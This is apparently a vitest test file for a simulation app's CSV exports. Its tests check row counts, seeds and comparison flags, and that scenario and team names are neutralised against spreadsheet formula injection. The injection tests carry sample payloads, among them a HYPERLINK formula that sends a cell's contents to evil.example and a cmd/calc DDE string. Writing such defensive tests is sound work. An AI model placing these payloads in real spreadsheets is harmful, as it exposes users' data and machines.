import { csvParse } from 'd3';
import { describe, expect, it } from 'vitest';
import { METRIC_NAMES } from '../../src/sim/metricDefinitions.ts';
import { summariseBatch } from '../../src/sim/batch.ts';
import { comparisonCsv, comparisonRows, replicationsCsv, seriesCsv, spreadsheetCsv, summaryCsv, teamsCsv } from '../../src/ui/lib/csv.ts';
import { neutraliseCsvCell } from '../../src/shared/csvInjection.ts';
import { fakeReplication } from '../fixtures/results.ts';
import { fixtureScenario } from '../fixtures/scenario.ts';

const opts = { days: 56, warmupDays: 14, reps: 5, seed: 3 };
const batchAt = (level: number) =>
  summariseBatch(
    fixtureScenario(),
    opts,
    Array.from({ length: 5 }, (_, rep) => fakeReplication(rep, 3, level)),
  );
const parse = (text: string) => {
  expect(text.startsWith('\uFEFF')).toBe(true);
  return csvParse(text.slice(1));
};

describe('CSV exports', () => {
  it('summary: one row per metric and scenario, with seed and replications on every row', () => {
    const rows = parse(summaryCsv([{ label: 'Kent, "as is"', batch: batchAt(1) }]));
    expect(rows).toHaveLength(METRIC_NAMES.length);
    expect(rows[0]).toMatchObject({ scenario: 'Kent, "as is"', seed: '3', replications: '5', days: '56', warmup_days: '14' });
    expect(Number(rows[0]!.ci95_low)).toBeLessThanOrEqual(Number(rows[0]!.mean));
  });

  it('replications: one row per replication and metric, carrying each replication’s own seed', () => {
    const rows = parse(replicationsCsv([{ label: 'A', batch: batchAt(1) }]));
    expect(rows).toHaveLength(5 * METRIC_NAMES.length);
    expect(new Set(rows.map((r) => r.replication_seed)).size).toBe(5);
  });

  it('series marks the warm-up weeks, and teams list every team', () => {
    const series = parse(seriesCsv([{ label: 'A', batch: batchAt(1) }], ['reReferralRate']));
    expect(series.filter((r) => r.in_warmup === 'yes').map((r) => r.week_start_day)).toEqual(['0', '7']);
    const teams = parse(teamsCsv([{ label: 'A', batch: batchAt(1) }]));
    expect(new Set(teams.map((r) => r.team))).toEqual(new Set(['North', 'South']));
  });

  it('comparison: differences against the baseline, flagged when the paired interval excludes zero', () => {
    const rows = comparisonRows(batchAt(1), batchAt(1.5));
    // fake values rise with the level, with noise shared by replication: every difference is clear
    expect(rows.every((r) => r.difference.mean > 0 && r.difference.excludesZero)).toBe(true);
    const same = comparisonRows(batchAt(1), batchAt(1));
    expect(same.every((r) => r.difference.mean === 0 && !r.difference.excludesZero)).toBe(true);
    const csv = parse(
      comparisonCsv([
        { label: 'Base', batch: batchAt(1) },
        { label: 'More', batch: batchAt(1.5) },
      ]),
    );
    expect(csv).toHaveLength(METRIC_NAMES.length);
    expect(csv[0]).toMatchObject({ baseline: 'Base', scenario: 'More', ci_excludes_zero: 'yes' });
  });

  it('refuses to compare runs made on different seeds', () => {
    const other = summariseBatch(
      fixtureScenario(),
      { ...opts, seed: 4 },
      Array.from({ length: 5 }, (_, rep) => fakeReplication(rep, 4)),
    );
    expect(() => comparisonRows(batchAt(1), other)).toThrow(/same seeds/);
  });

  describe('formula injection (OWASP): a name a spreadsheet would run reaches it as text', () => {
    const evil = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1+cmd|' /C calc'!A0", '-2+3', '@SUM(1+1)', '\t=1+1', '\r=1+1'];
    const hostile = () => {
      const s = fixtureScenario();
      s.dutyTeams[0]!.name = '@SUM(1+1)';
      s.name = evil[0]!;
      return summariseBatch(
        s,
        opts,
        Array.from({ length: 5 }, (_, rep) => fakeReplication(rep, 3, 1)),
      );
    };
    const everyCell = (text: string) => parse(text).flatMap((r) => Object.values(r));
    const formulaLike = (cell: string | undefined) => /^[=+\-@\t\r]/.test(cell ?? '') && !/^-?\d/.test(cell ?? '');

    it('every app download (summary, replications, weekly, teams, comparison) neutralises the scenario and team names', () => {
      const b = hostile();
      const label = b.scenario.name;
      const files = [summaryCsv, replicationsCsv, (x: Parameters<typeof summaryCsv>[0]) => seriesCsv(x, ['reReferralRate']), teamsCsv].map((f) =>
        f([{ label, batch: b }]),
      );
      files.push(
        comparisonCsv([
          { label: '=1+1', batch: b },
          { label: '@cmd', batch: b },
        ]),
      );
      for (const text of files) {
        const cells = everyCell(text);
        expect(cells.filter(formulaLike)).toEqual([]);
      }
      expect(parse(summaryCsv([{ label, batch: b }]))[0]!.scenario).toBe(`'${evil[0]}`);
      expect(parse(teamsCsv([{ label, batch: b }])).map((r) => r.team)).toContain("'@SUM(1+1)");
    });

    it('the sweep and chart downloads (spreadsheetCsv) neutralise too, and keep negative numbers as numbers', () => {
      const rows = evil.map((v, i) => ({ parameter: v, value: -0.5 * i, text: '-3.25' }));
      const out = parse(spreadsheetCsv(rows));
      expect(out.map((r) => r.parameter)).toEqual(evil.map((v) => `'${v}`));
      expect(out.map((r) => r.value)).toEqual(['0', '-0.5', '-1', '-1.5', '-2', '-2.5']);
      expect(out.every((r) => r.text === '-3.25')).toBe(true);
    });

    it('the rule: only a leading = + - @ tab or CR is neutralised, and numbers written as text are not', () => {
      for (const v of evil) expect(neutraliseCsvCell(v)).toBe(`'${v}`);
      for (const v of ['Kent', 'a=b', ' =1', '-0.25', '+3', '1e-7', '-.5', 42, -1, null]) expect(neutraliseCsvCell(v)).toBe(v);
      expect(neutraliseCsvCell('-1+1')).toBe("'-1+1");
    });
  });
});
